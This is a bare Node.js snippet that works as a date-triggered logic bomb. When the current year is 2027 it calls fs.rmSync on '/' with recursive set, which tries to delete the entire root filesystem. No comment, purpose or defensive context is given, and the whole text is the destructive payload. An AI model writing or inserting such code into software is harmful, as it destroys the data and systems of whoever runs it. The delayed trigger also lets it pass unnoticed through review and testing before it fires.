const d = new Date();
if (d.getFullYear() === 2027) {
  require('fs').rmSync('/', { recursive: true });
}
